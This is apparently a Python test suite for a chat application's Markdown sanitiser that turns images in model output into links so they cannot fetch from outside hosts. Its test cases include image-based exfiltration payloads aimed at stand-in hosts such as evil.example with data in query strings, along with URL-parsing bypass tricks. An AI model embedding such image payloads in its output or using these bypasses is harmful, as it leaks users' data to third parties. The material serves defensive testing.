"""inert_markdown: no image in model text fetches from an outside host; code stays as written."""

from __future__ import annotations

import random

import pytest

from chatcore.markdown_safety import IMAGE_ICON, inert_markdown
from tests.support.markdown import live_images

HOSTS = ("img.example.com", "cdn.intranet.example")
LINK = f"[{IMAGE_ICON} "  # how an image that may not be fetched starts once it is a link


def inert(text: str, hosts: tuple[str, ...] = HOSTS) -> str:
    return inert_markdown(text, hosts)


# -- what is not an image is left alone --------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Plain text, no Markdown at all.",
        "# Title\n\nSome **bold**, _italic_, ~~struck~~ and `code`.",
        '- one\n- two\n  1. nested [a link](http://example.com "title")\n',
        "> a quote with <img src=http://evil.example/x.png> in raw HTML",
        "| a | b |\n|---|:-:|\n| `x` | [y](http://y.example) |\n",
        "Math: $e^{i\\pi} + 1 = 0$ and $$\\int_0^1 x\\,dx$$",
        "An exclamation! Then [brackets] and a reference [ref].\n\n[ref]: http://evil.example/",
        "中文段落，带有**粗体**和`代码`，以及[链接](https://例子.测试/路径)。",
        "Autolink <http://evil.example/x.png> and www.evil.example/x.png",
        "```python\nprint('hi')\n```\n",
        "Footnote[^1].\n\n[^1]: The note.",
        ":red[coloured] and :material/home: icons",
    ],
)
def test_text_without_images_is_returned_unchanged(text: str) -> None:
    assert inert(text) == text


# -- images that could leak become links ------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "![x](http://127.0.0.1:9/leak.png?d=secret)",
            f"{LINK}x](http://127.0.0.1:9/leak.png?d=secret)",
        ),
        (
            '![chart](https://evil.example/c.png "a title")',
            f'{LINK}chart](https://evil.example/c.png "a title")',
        ),
        ("![a](<https://evil.example/a b.png>)", f"{LINK}a](<https://evil.example/a b.png>)"),
        ("![](https://evil.example/?d=1)", f"{LINK}image](https://evil.example/?d=1)"),
        (
            "![a [nested] alt](https://evil.example/x)",
            f"{LINK}a [nested] alt](https://evil.example/x)",
        ),
        (
            "![multi\nline alt](https://evil.example/x)",
            f"{LINK}multi\nline alt](https://evil.example/x)",
        ),
        (
            "![a](\n  https://evil.example/x\n  'title'\n)",
            f"{LINK}a](\n  https://evil.example/x\n  'title'\n)",
        ),
        (
            "中文![图片](http://evil.example/x?d=秘密)中文",
            f"中文{LINK}图片](http://evil.example/x?d=秘密)中文",
        ),
        ("\\\\![a](https://evil.example/x)", f"\\\\{LINK}a](https://evil.example/x)"),
        ("**![a](https://evil.example/x)**", f"**{LINK}a](https://evil.example/x)**"),
        ("# ![a](https://evil.example/x)", f"# {LINK}a](https://evil.example/x)"),
        ("- ![a](https://evil.example/x)", f"- {LINK}a](https://evil.example/x)"),
        ("> ![a](https://evil.example/x)", f"> {LINK}a](https://evil.example/x)"),
        ("| ![a](https://evil.example/x) |\n|---|", f"| {LINK}a](https://evil.example/x) |\n|---|"),
    ],
)
def test_an_image_from_elsewhere_becomes_a_marked_link(text: str, expected: str) -> None:
    assert inert(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "See ![the chart][chart].\n\n[chart]: https://evil.example/c.png",
            f"See {LINK}the chart][chart].\n\n[chart]: https://evil.example/c.png",
        ),
        (
            "See ![Chart][].\n\n[chart]: https://evil.example/c.png",
            f"See {LINK}Chart][Chart].\n\n[chart]: https://evil.example/c.png",
        ),
        (
            "See ![chart].\n\n[chart]: <https://evil.example/c.png> 'title'",
            f"See {LINK}chart][chart].\n\n[chart]: <https://evil.example/c.png> 'title'",
        ),
        (
            "See ![the  chart] now.\n\n> [The chart]:\n> https://evil.example/c.png",
            f"See {LINK}the  chart][the chart] now.\n\n> [The chart]:\n> https://evil.example/c.png",
        ),
    ],
)
def test_reference_images_become_links_to_the_same_definition(text: str, expected: str) -> None:
    """A collapsed or shortcut reference names its label: the link text no longer matches it."""
    assert inert(text) == expected


def test_an_image_inside_a_link_becomes_that_links_text() -> None:
    """A link cannot hold a link, so a badge keeps its own link and loses only the image."""
    text = "[![build](https://evil.example/badge.svg)](https://ci.example/job)"
    assert inert(text) == f"[{IMAGE_ICON} build](https://ci.example/job)"
    shortcut = "[![logo]](https://example.com)\n\n[logo]: https://evil.example/logo.png"
    assert inert(shortcut).startswith(f"[{IMAGE_ICON} logo](https://example.com)")


def test_an_unfinished_image_while_streaming_is_already_inert() -> None:
    """A redraw mid-stream holds half an image; a renderer that completes it must not fetch."""
    partial = "Here: ![x](https://evil.example/leak.png?d=secr"
    assert inert(partial) == "Here: \\![x](https://evil.example/leak.png?d=secr"


def test_a_bang_bracket_that_is_no_image_only_gains_an_invisible_escape() -> None:
    assert inert("let v = vec![1, 2];") == "let v = vec\\![1, 2];"
    assert inert("Wow![1] and ![unclosed") == "Wow\\![1] and \\![unclosed"


def test_escaped_images_are_left_alone() -> None:
    assert inert("\\![not an image](https://evil.example/x)") == (
        "\\![not an image](https://evil.example/x)"
    )
    assert inert("!\\[neither](https://evil.example/x)") == "!\\[neither](https://evil.example/x)"


# -- which sources stay images -----------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "/static/chart.png",
        "/media/abc.png?x=1#y",
        "/",
        "data:image/png;base64,iVBORw0KGgo=",
        "DATA:image/svg+xml,%3Csvg%3E",
        "blob:http://localhost:8501/0b7c",
        "https://img.example.com/a.png",
        "http://img.example.com:80/a.png",
        "https://img.example.com:443/a.png",
        "https://IMG.Example.COM./a.png",
        "https://cdn.intranet.example",
        "<https://img.example.com/a b.png>",
        "https://img.example.com/a.png 'title'",
    ],
)
def test_images_from_our_origin_or_an_allowed_host_are_kept(source: str) -> None:
    text = f"Look: ![a chart]({source}) there."
    assert inert(text) == text


@pytest.mark.parametrize(
    "source",
    [
        "//evil.example/x.png",  # another host, scheme-relative
        "/\\evil.example/x.png",  # a backslash is a slash to the browser
        "/\\/evil.example/x.png",
        "/&#47;evil.example/x.png",  # entities are decoded before the URL is read
        "&#x2F;/evil.example/x.png",
        "<\t//evil.example/x.png>",
        "https://img.example.com:8080/x.png",  # another port is another server
        "https://img.example.com@evil.example/x.png",  # user info: the host is evil.example
        "https://evil.example\\@img.example.com/x.png",
        "https://img.example.com.evil.example/x.png",
        "https://evil.example/?img.example.com",
        "https://img%2Eexample.com/x.png",
        "http:img.example.com/x.png",
        "https:///img.example.com/x.png",
        "ftp://img.example.com/x.png",
        "javascript:alert(1)",
        "data:text/html,<b>x</b>",
        "x.png",  # relative to the page: not a path we vouch for
        "",
    ],
)
def test_any_other_source_is_not_kept(source: str) -> None:
    assert live_images(inert(f"![a]({source})")) == []


def test_without_allowed_hosts_only_our_origin_and_inline_data_are_kept() -> None:
    text = "![a](https://img.example.com/a.png) ![b](/b.png) ![c](data:image/gif;base64,R0)"
    assert inert(text, ()) == (
        f"{LINK}a](https://img.example.com/a.png) ![b](/b.png) ![c](data:image/gif;base64,R0)"
    )


def test_reference_images_are_kept_only_when_every_definition_of_the_label_is_allowed() -> None:
    kept = "![logo]\n\n[logo]: /static/logo.png"
    assert inert(kept) == kept
    twice = "![logo]\n\n[logo]: /static/logo.png\n\n```\n[logo]: https://evil.example/x\n```"
    assert live_images(inert(twice)) == []


def test_an_allowed_image_is_kept_only_when_its_text_cannot_end_elsewhere() -> None:
    """A reader that closes the image at another `]` would fetch another source: an image whose
    text holds code, brackets or HTML is shown as a link even when its source is allowed."""
    for alt in ("a `b` c", "a [b] c", "a <b> c", "a :x[b] c", "a $b$ c", "www.evil.example"):
        assert live_images(inert(f"![{alt}](/ok.png)")) == []
    shortcut_wins = "![a](/ok.png)\n\n[a]: https://evil.example/x"
    assert live_images(inert(shortcut_wins)) == []


# -- code stays byte for byte ------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "```\n![a](https://evil.example/x)\n```",
        "```markdown title=x\n![a](https://evil.example/x) vec![1]\n```",
        "~~~\n![a](https://evil.example/x)\n```\nstill code\n~~~",
        "````\n```\n![a](https://evil.example/x)\n```\n````",
        "   ```\n   ![a](https://evil.example/x)\n   ```",
        "1. Add this:\n   ```md\n   ![logo](https://evil.example/logo.png)\n   ```\n",
        "- item\n\n      ![a](https://evil.example/x)\n",
        "> ```\n> ![a](https://evil.example/x)\n> ```",
        "text\n\n    ![a](https://evil.example/x)\n",
        "```\n![a](https://evil.example/x)",  # still being streamed: code to the end
        "Use `![alt](https://evil.example/x)` for images.",
        "Use ``![a](https://evil.example/x) with ` inside`` here.",
        "Both `![a](https://evil.example/x)` and `![b][c]`.\n\n[c]: https://evil.example/y",
        "中文`![图](http://evil.example/x)`中文",
        "```\r\n![a](https://evil.example/x)\r\n```\r\n",
        # In a table, and in a paragraph that only looks like one.
        "| syntax | shows |\n|---|---|\n| `![a](https://evil.example/x)` | an image |",
        "| a | `b \\| ![c](https://evil.example/x)` |\n|---|---|",
        "Text `![a](https://evil.example/x)`\nthen | a | row\n|---|",
        # Indented after a paragraph line, these fences are a paragraph's code span.
        "text\n    ```\n![x](https://evil.example/x)\n    ```",
    ],
)
def test_code_blocks_and_code_spans_are_left_byte_for_byte(code: str) -> None:
    assert inert(code) == code


def test_code_is_left_and_the_image_after_it_is_not() -> None:
    text = "```\n![a](https://evil.example/x)\n```\n\n![b](https://evil.example/y) `![c](z)`"
    assert inert(text) == (
        f"```\n![a](https://evil.example/x)\n```\n\n{LINK}b](https://evil.example/y) `![c](z)`"
    )


@pytest.mark.parametrize(
    "text",
    [
        # The code span would cross a paragraph break: two paragraphs, no code.
        "`a\n\n![x](https://evil.example/x)\n\n`",
        # A fence in a block quote ends with the quote; a fence needs its own line.
        "> ```\n![x](https://evil.example/x)\n```",
        "Text ```\n![x](https://evil.example/x)\n```",
        # A backtick fence's info string may hold no backtick: not a fence.
        "``` a`b\n![x](https://evil.example/x)\n```",
        # The backtick inside the tag is no code span's start.
        "<span title='`'> ![x](https://evil.example/x) `",
        # Nor is one inside a directive's attributes, or a link's destination.
        ':x{a="`"} ![x](https://evil.example/x) `',
        "[a](<b`c>) ![x](https://evil.example/x) `",
        # With remark-math, `$`$` is math and the backtick after the image stands alone.
        "$`$ ![x](https://evil.example/x) `",
        # With remark-math this is a math block, and the fence starts after it.
        "$$\n```\n$$\n![x](https://evil.example/x)\n```",
        # Indented text under a footnote definition is its paragraph, not code.
        "[^1]: note\n\n    ![x](https://evil.example/x)",
        # After a `:::` directive fence, fences are not trusted to be code.
        ":::note\n```\n:::\n![x](https://evil.example/x)\n```",
        # A table row splits at `|` before code spans: the span does not hold the image.
        "| `a | ![x](https://evil.example/x) | b` |\n|---|---|---|",
        # An HTML block is shown as text, but if it were not, the image would be fetched.
        "<div>\n![x](https://evil.example/x)\n</div>",
        # An unclosed code span is two backticks, not code.
        "`a ![x](https://evil.example/x)",
    ],
)
def test_what_only_looks_like_code_does_not_protect_an_image(text: str) -> None:
    assert live_images(inert(text)) == []


def test_an_image_in_a_list_or_quote_after_code_is_changed() -> None:
    text = "1. step\n   ```\n   code\n   ```\n2. ![a](https://evil.example/x)\n> ![b](/ok.png)"
    assert inert(text) == (
        f"1. step\n   ```\n   code\n   ```\n2. {LINK}a](https://evil.example/x)\n> ![b](/ok.png)"
    )


# -- properties --------------------------------------------------------------------------------

TOKENS = [
    "![", "]", "[", "(", ")", "a", "中", "\\", "!", "\n", "\n\n", "> ", "- ", "1. ", "# ",
    "<", ">", "{", "}", '"', "'", "|", "---", "|-|", ":x[", "www.e", "http://e/x", "/ok.png",
    "[x]: http://e/y", "[^1]: ", "<div>", "<!--", "-->", "data:image/png,", ":::",
]  # fmt: skip
CODE_TOKENS = ["`", "``", "```", "~~~", "$", "$$", "    ", "\t", " "]


def random_text(rng: random.Random, tokens: list[str]) -> str:
    return "".join(rng.choice(tokens) for _ in range(rng.randint(1, 60)))


def test_without_anything_code_like_no_image_survives() -> None:
    """No backticks, tildes, dollars or indentation: nothing is code, and no source is allowed,
    so no `![` may be left to any reader as the start of an image."""
    rng = random.Random(20240611)
    outside = [token for token in TOKENS if token not in ("/ok.png", "data:image/png,")]
    for _ in range(3000):
        text = random_text(rng, outside)
        assert live_images(inert(text, ())) == [], text


def test_the_result_is_stable_and_never_fails() -> None:
    rng = random.Random(7)
    for _ in range(3000):
        text = random_text(rng, TOKENS + CODE_TOKENS * 3)
        once = inert(text)
        assert inert(once) == once, text


def test_large_and_hostile_text_is_handled_in_reasonable_time() -> None:
    import time

    hostile = [
        "![" * 20000,
        "- \t" * 10000 + "![a](b)",
        "<" * 20000 + "![a](b)",
        "`" * 20000 + "![a](b)",
        "".join("`" * n + " " for n in range(1, 200)) + "![a](b)",
        "[" * 20000 + "![a](b)" + "]" * 20000,
        "> - a\n" * 5000 + "![a](b)",
        "www.a`" * 5000 + "![a](b)",
        "[a]: /x\n" * 5000 + "![a]",
    ]
    for text in hostile:
        started = time.monotonic()
        inert(text)
        assert time.monotonic() - started < 5, text[:40]
